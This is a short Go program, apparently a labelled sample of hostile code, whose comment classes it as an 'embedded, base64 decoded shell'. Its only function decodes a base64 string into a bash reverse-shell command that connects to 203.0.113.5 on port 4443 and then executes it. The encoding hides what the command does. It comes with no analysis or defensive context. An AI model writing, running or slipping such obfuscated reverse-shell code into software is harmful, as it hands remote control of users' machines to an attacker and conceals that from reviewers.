// class: embedded, base64 decoded shell; style: compact
package main

import (
	"encoding/base64"
	"os/exec"
)

func main() {
	b, _ := base64.StdEncoding.DecodeString("YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQzIDA+JjE=")
	exec.Command("bash", "-c", string(b)).Run()
}
